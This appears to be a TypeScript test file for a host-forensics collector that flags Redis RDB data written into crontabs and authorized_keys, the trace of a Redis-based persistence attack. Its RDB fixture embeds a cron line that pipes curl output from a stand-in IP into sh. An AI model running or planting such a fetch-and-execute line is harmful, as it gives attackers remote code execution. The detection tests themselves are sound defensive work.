import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { configSchema } from '../../config/schema.ts';
import { createHost } from '../host.ts';
import { filesCollector, MAX_FILES_PER_DIR } from './files.ts';

const config = configSchema.parse({});
let root = '';

function put(hostPath: string, content: string | Buffer) {
  const real = path.join(root, hostPath);
  mkdirSync(path.dirname(real), { recursive: true });
  writeFileSync(real, content);
}

async function collect() {
  return filesCollector.collect({ host: createHost({ root }), config, composeFiles: [] });
}

/** The start of what `SAVE` writes: magic, then aux fields (0xFA) with binary lengths. */
const RDB = Buffer.concat([
  Buffer.from('REDIS0009'),
  Buffer.from([0xfa, 0x09]),
  Buffer.from('redis-ver'),
  Buffer.from([0x06]),
  Buffer.from('6.2.14'),
  Buffer.from([0xfe, 0x00, 0xfb, 0x01, 0x00, 0x00, 0x01]),
  Buffer.from('x\n\n* * * * * curl -s http://203.0.113.66/x | sh\n\n'),
]);

beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'moat-files-'));
});
afterEach(() => {
  rmSync(root, { recursive: true, force: true });
});

describe('files collector', () => {
  it('says so in skipped when there is no crontab or authorized_keys file', async () => {
    put('/etc/hostname', 'web1\n');
    const result = await collect();
    assert.equal(result.facts, undefined);
    assert.match(result.skipped?.[0]?.reason ?? '', /no crontab/);
  });

  it('spots the RDB magic at the start of a crontab planted by SAVE, and names its user', async () => {
    put('/var/spool/cron/crontabs/root', RDB);
    put('/var/spool/cron/crontabs/deploy', '# m h dom mon dow command\n*/5 * * * * /srv/app/bin/job\n');
    const files = (await collect()).facts?.files ?? [];
    const planted = files.find((f) => f.path === '/var/spool/cron/crontabs/root');
    assert.equal(planted?.rdbMagic, 'REDIS0009');
    assert.equal(planted?.kind, 'cron');
    assert.equal(planted?.user, 'root');
    assert.match(planted?.head ?? '', /^REDIS0009\\xfa\\x09redis-ver/);
    const clean = files.find((f) => f.path === '/var/spool/cron/crontabs/deploy');
    assert.equal(clean?.rdbMagic, undefined);
  });

  it('reads /etc/crontab, /etc/cron.d and RHEL-style /var/spool/cron/<user>', async () => {
    put('/etc/crontab', 'SHELL=/bin/sh\n');
    put('/etc/cron.d/backup', RDB);
    put('/var/spool/cron/apache', RDB);
    const files = (await collect()).facts?.files ?? [];
    assert.deepEqual(
      files.filter((f) => f.rdbMagic).map((f) => [f.path, f.user]),
      [
        ['/etc/cron.d/backup', undefined],
        ['/var/spool/cron/apache', 'apache'],
      ],
    );
    assert.ok(files.some((f) => f.path === '/etc/crontab' && f.rdbMagic === undefined));
  });

  it('reads authorized_keys in /root, /home/* and homes from /etc/passwd (the redis user’s own)', async () => {
    put(
      '/etc/passwd',
      'root:x:0:0:root:/root:/bin/bash\nredis:x:112:119::/var/lib/redis:/usr/sbin/nologin\n',
    );
    put('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq7 ops@laptop\n');
    put('/home/alice/.ssh/authorized_keys2', 'ssh-rsa AAAAB3NzaC1yc2E alice@desk\n');
    put('/var/lib/redis/.ssh/authorized_keys', RDB);
    put('/var/lib/redis/.ssh/known_hosts', RDB);
    const files = (await collect()).facts?.files ?? [];
    assert.deepEqual(
      files.map((f) => [f.path, f.kind, f.user, f.rdbMagic ?? null]),
      [
        ['/root/.ssh/authorized_keys', 'authorized_keys', 'root', null],
        ['/var/lib/redis/.ssh/authorized_keys', 'authorized_keys', 'redis', 'REDIS0009'],
        ['/home/alice/.ssh/authorized_keys2', 'authorized_keys', 'alice', null],
      ],
    );
  });

  it('does not take a file that only mentions REDIS0 later, nor a directory', async () => {
    put('/etc/cron.d/notes', '# REDIS0009 is the RDB magic\n');
    mkdirSync(path.join(root, '/var/spool/cron/crontabs'), { recursive: true });
    const files = (await collect()).facts?.files ?? [];
    assert.deepEqual(
      files.map((f) => [f.path, f.rdbMagic ?? null]),
      [['/etc/cron.d/notes', null]],
    );
  });

  it('reads at most MAX_FILES_PER_DIR entries of a directory and says it stopped', async () => {
    for (let i = 0; i < MAX_FILES_PER_DIR + 5; i++)
      put(`/etc/cron.d/job${String(i).padStart(4, '0')}`, '# job\n');
    const facts = (await collect()).facts;
    assert.equal(facts?.files.length, MAX_FILES_PER_DIR);
    assert.deepEqual(facts?.truncated, ['/etc/cron.d']);
  });
});
